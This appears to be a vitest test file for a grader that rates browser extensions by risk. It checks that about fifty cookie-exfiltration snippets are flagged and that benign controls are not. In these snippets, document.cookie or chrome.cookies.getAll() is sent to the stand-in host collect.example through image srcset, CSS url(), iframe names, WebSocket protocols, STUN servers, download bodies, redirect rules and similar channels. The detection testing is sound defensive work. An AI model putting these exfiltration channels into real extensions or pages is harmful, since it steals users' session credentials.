import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What the browser asks for, whatever it is told by: `K` is a secret, and in the twin the version of the extension. */

const PAGE: readonly (readonly [what: string, program: string])[] = [
  ['a picture of several sizes', "const i = document.createElement('img'); i.setAttribute('srcset', `${TO}${K} 2x`);"],
  ['a picture that stands in the page', "document.querySelector('#a img.b').src = TO + K;"],
  ['the icon of the page', 'document.querySelector(\'link[rel~="shortcut icon"]\').href = TO + K;'],
  [
    'a picture in a drawing',
    "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttributeNS('http://www.w3.org/1999/xlink', 'href', TO + K); document.querySelector('svg').append(i);",
  ],
  [
    'a part of a drawing',
    "const i = document.createElementNS('http://www.w3.org/2000/svg', 'use'); i.setAttribute('xlink:href', TO + K); document.querySelector('svg').append(i);",
  ],
  ['a button with a picture', "const i = document.createElement('input'); i.type = 'image'; i.src = TO + K;"],
  ['a frame of a set', "const f = document.createElement('frame'); f.src = TO + K; document.body.append(f);"],
  ['the poster of a film', "const v = document.createElement('video'); v.setAttribute('poster', TO + K);"],
  ['a sound', 'const a = new Audio(); a.src = TO + K; a.play();'],
  ['a style of an attribute', "document.body.setAttribute('style', `background: url(${TO}${K})`);"],
  ['a mask', 'document.body.style.maskImage = `url("${TO}${K}")`;'],
  ['pictures of several sizes in a style', 'document.body.style.backgroundImage = `image-set("${TO}${K}" 1x)`;'],
  ['a style that is imported', 'const s = document.createElement(\'style\'); s.textContent = `@import "${TO}${K}";`;'],
  [
    'a text in a style',
    "const s = document.createElement('style'); s.appendChild(document.createTextNode(`p { background: url(${TO}${K}) }`));",
  ],
  [
    'a style that is appended',
    "const s = document.createElement('style'); s.append(`p { background: url(${TO}${K}) }`);",
  ],
  ['a sheet that is replaced', 'const s = new CSSStyleSheet(); s.replace(`p { background: url(${TO}${K}) }`);'],
  ['a rule', "document.styleSheets[0].addRule('p', `background: url(${TO}${K})`);"],
  [
    'a page that leads on',
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${TO}${K}`;",
  ],
  [
    'the name of a frame',
    "const f = document.createElement('iframe'); f.name = K; f.src = 'https://collect.example/'; document.body.append(f);",
  ],
  [
    'the name of a frame whose address is an attribute',
    "const f = document.createElement('iframe'); f.setAttribute('src', 'https://collect.example/'); f.name = K; document.body.append(f);",
  ],
  ['the name of a window that is led elsewhere', "window.name = K; location.href = 'https://collect.example/';"],
  ['a window that was opened', "const w = window.open('about:blank'); w.location.href = TO + K;"],
  [
    'a frame that is led on',
    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = TO + K;",
  ],
  [
    'a link that is pressed by an event',
    "const a = document.createElement('a'); a.href = TO + K; a.dispatchEvent(new MouseEvent('click'));",
  ],
  ['markup that may do more', 'document.querySelector(\'p\').setHTMLUnsafe(`<img src="${TO}${K}">`);'],
  [
    'markup that is read first',
    'const d = new DOMParser().parseFromString(`<img src="${TO}${K}">`, \'text/html\'); document.body.append(d.body.firstChild);',
  ],
  ['markup of a command', 'document.execCommand(\'insertHTML\', false, `<img src="${TO}${K}">`);'],
  ['markup of jQuery', '$(`<img src="${TO}${K}">`).appendTo("body");'],
  ['a picture of jQuery', "$('<img>').attr('src', TO + K).appendTo('body');"],
  ['a style of jQuery', "$('body').css('background-image', `url(${TO}${K})`);"],
  ['a part of a page that jQuery loads', "$('#a').load(TO + K);"],
  [
    'the markup of a form',
    "const f = document.createElement('form'); f.action = 'https://collect.example/'; f.innerHTML = `<input name=a value=\"${K}\">`; document.body.append(f); f.submit();",
  ],
  ['a request of another window', "const f = document.createElement('iframe'); f.contentWindow.fetch(TO + K);"],
  ['a request that is made later', "fetchLater('https://collect.example/', { method: 'POST', body: K });"],
  [
    'the page that a request comes from',
    "fetch('https://collect.example/', { referrer: `/${K}`, referrerPolicy: 'unsafe-url' });",
  ],
  ['the protocols of a socket', "new WebSocket('wss://collect.example/', [K]);"],
  ['a worker of the site', 'navigator.serviceWorker.register(TO + K);'],
  [
    'a stream of a session',
    "(async () => { const t = new WebTransport('https://collect.example/'); const s = await t.createUnidirectionalStream(); await s.getWriter().write(new TextEncoder().encode(K)); })();",
  ],
  [
    'a server for peers',
    'const p = new RTCPeerConnection(); p.setConfiguration({ iceServers: [{ urls: `stun:${K}.collect.example` }] });',
  ],
];

const BACKGROUND: readonly (readonly [what: string, program: string])[] = [
  ['a cookie of another site', "chrome.cookies.set({ url: 'https://collect.example/', name: 'd', value: K });"],
  [
    'a header by a rule',
    "chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 1, action: { type: 'modifyHeaders', requestHeaders: [{ header: 'x-d', operation: 'set', value: K }] }, condition: { urlFilter: '||collect.example' } }] });",
  ],
  [
    'headers of a download',
    "chrome.downloads.download({ url: 'https://collect.example/', headers: [{ name: 'a', value: K }] });",
  ],
  [
    'the body of a download',
    "chrome.downloads.download({ url: 'https://collect.example/', method: 'POST', body: K });",
  ],
  [
    'a rule that leads on',
    "chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 1, action: { type: 'redirect', redirect: { url: TO + K } }, condition: { urlFilter: 'a' } }] });",
  ],
  [
    'a rule that puts in what fits',
    "const rule = { id: 1, action: { type: 'redirect', redirect: {} }, condition: { regexFilter: 'a' } }; rule.action.redirect.regexSubstitution = TO + K; chrome.declarativeNetRequest.updateSessionRules({ removeRuleIds: [1], addRules: [rule] });",
  ],
  [
    'a tab that is led on by the debugger',
    "chrome.debugger.sendCommand({ tabId: 1 }, 'Page.navigate', { url: TO + K });",
  ],
  ['a window of a worker', 'clients.openWindow(TO + K);'],
];

const TO = "const TO = 'https://collect.example/?a=';";
const NOTHING = "const K = '1.0';";

describe('a secret leaves with', () => {
  it.each(PAGE)('%s', async (_, program) => {
    expect(await graded({ content: `${TO} const K = document.cookie; ${program}` })).toMatch(/^[CDF]$/);
    expect(await graded({ content: `${TO} ${NOTHING} ${program}` })).toMatch(/^A/);
  });
  it.each(BACKGROUND)('%s', async (_, program) => {
    const secret = '(async () => { const K = JSON.stringify(await chrome.cookies.getAll({}));';
    expect(await graded({ background: `${TO} ${secret} ${program} })();` })).toMatch(/^[CDF]$/);
    expect(await graded({ background: `${TO} ${NOTHING} ${program}` })).toMatch(/^[AB]/);
  });
});

it('a page’s whole address is told where another host is put before it', async () => {
  const asks = (by: string): string => `fetch(location.href.replace(/^https?:/, '${by}'));`;
  expect(await graded({ content: asks('https://collect.example/?a=') })).toBe('F');
  expect(await graded({ content: asks('https:') })).toMatch(/^A/);
});

it.each([
  [
    'what a link says',
    "const a = document.createElement('a'); a.href = `https://collect.example/?a=${document.cookie}`; document.body.append(a);",
  ],
  [
    'the name of a frame of the page’s own',
    "const f = document.createElement('iframe'); f.name = document.cookie; f.src = 'about:blank'; document.body.append(f);",
  ],
  ['a style that asks for nothing', "document.body.setAttribute('style', `--a: ${document.cookie}`);"],
  [
    'the text of a rule',
    "const s = document.createElement('style'); s.append(`p::after { content: '${document.cookie}' }`);",
  ],
])('%s is asked of nobody', async (_, content) => {
  expect(await graded({ content })).toMatch(/^A/);
});

it('a site that is blocked is told nobody', async () => {
  const background =
    "chrome.tabs.onUpdated.addListener((id, info, tab) => { const { hostname } = new URL(tab.url); chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 1, action: { type: 'block' }, condition: { urlFilter: '||' + hostname } }] }); });";
  expect(await graded({ background })).toMatch(/^A/);
});
